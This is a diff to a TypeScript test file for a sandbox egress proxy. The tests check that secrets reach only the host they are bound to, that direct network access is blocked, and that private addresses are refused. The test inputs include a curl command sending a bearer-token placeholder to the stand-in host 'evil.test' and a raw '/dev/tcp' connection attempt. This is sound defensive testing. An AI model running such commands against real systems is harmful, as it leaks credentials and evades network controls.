@@ -2,7 +2,12 @@ import { afterAll, beforeAll, describe, expect, it } from 'vitest'
 import { createServer, type IncomingMessage, type Server } from 'node:http'
 import { LocalVault, SecretWrite, storeSecret, type Db } from '@roster/shared'
 import { useTestTenant } from '@roster/testing'
+import { mkdtempSync } from 'node:fs'
+import { tmpdir } from 'node:os'
+import { join } from 'node:path'
 import { Egress, scrubSecrets } from './egress.js'
+import { EgressProxies } from './egress-proxy.js'
+import { runSandboxed } from './sandbox.js'
 
 // The egress against a real vault and a real HTTP server on the loopback, reached under test
 // hostnames mapped to it (nothing leaves the machine): a secret travels only to the host it is
@@ -110,5 +115,46 @@ describe('the egress', () => {
   it('scrubs every released value, the longest first', () => {
     const released = new Map([['a', 'abc'], ['b', 'abcdef']])
     expect(scrubSecrets('abcdef and abc', released)).toBe('{{secret:b}} and {{secret:a}}')
+  })
+})
+
+describe("a shell command's network: its intern's egress proxy, and nothing else", () => {
+  const hosts = { 'api.github.test': '127.0.0.1', 'evil.test': '127.0.0.1' }
+  const workspace = mkdtempSync(join(tmpdir(), 'roster-proxy-ws-'))
+  const proxies = (allowPrivateNetworks: boolean) => new EgressProxies({ dir: mkdtempSync(join(tmpdir(), 'roster-egress-')), allowPrivateNetworks, hosts, timeoutMs: 5_000, maxRequestBytes: 1024 * 1024, egress })
+  const sandboxed = async (p: EgressProxies, command: string) => runSandboxed(command, { workspace, egressSocket: await p.socketFor(internId), timeoutMs: 20_000, maxOutputBytes: 64 * 1024 })
+
+  it('puts a secret into plain HTTP only for its bound host and scrubs it from the answer; tunnels HTTPS untouched', async () => {
+    const p = proxies(true)
+    try {
+      seen.length = 0
+      const bound = await sandboxed(p, `curl -s -H 'authorization: Bearer {{secret:gh_token}}' ${url('api.github.test', '/user')}`)
+      expect(seen.at(-1)).toMatchObject({ host: `api.github.test:${port}`, authorization: 'Bearer ghp_WORKSPACE' })
+      expect(JSON.parse(bound.stdout)).toEqual({ you_sent: 'Bearer {{secret:gh_token}}', body: '' })
+      const other = await sandboxed(p, `curl -s -w ' %{http_code}' -H 'authorization: Bearer {{secret:gh_token}}' ${url('evil.test')}`)
+      expect(other.stdout).toMatch(/gh_token is not a secret bound to evil\.test.* 502$/s)
+      expect(seen).toHaveLength(1)
+      // A CONNECT tunnel (what HTTPS uses), here to a plain server: bytes pass, nothing is put in.
+      const tunnelled = await sandboxed(p, `curl -s -p -H 'authorization: Bearer {{secret:gh_token}}' ${url('api.github.test')}`)
+      expect(JSON.parse(tunnelled.stdout).you_sent).toBe('Bearer {{secret:gh_token}}')
+      expect(seen.at(-1)!.authorization).toBe('Bearer {{secret:gh_token}}')
+      // The proxy is the only way out: a direct connection finds no network.
+      const direct = await sandboxed(p, `exec 3<>/dev/tcp/127.0.0.1/${port} && echo connected`)
+      expect([direct.exitCode === 0, direct.stdout]).toEqual([false, ''])
+    } finally {
+      await p.closeAll()
+    }
+  })
+
+  it("refuses private and loopback addresses (the host's own services) unless allowed, by name, literal or tunnel", async () => {
+    const p = proxies(false)
+    try {
+      seen.length = 0
+      const out = await sandboxed(p, `curl -s -o /dev/null -w '%{http_code} ' ${url('api.github.test')}; curl -s -o /dev/null -w '%{http_code} ' http://127.0.0.1:${port}/; curl -s -p -o /dev/null -w '%{http_connect}' http://127.0.0.1:${port}/`)
+      expect(out.stdout).toBe('502 403 403')
+      expect(seen).toEqual([])
+    } finally {
+      await p.closeAll()
+    }
   })
 })
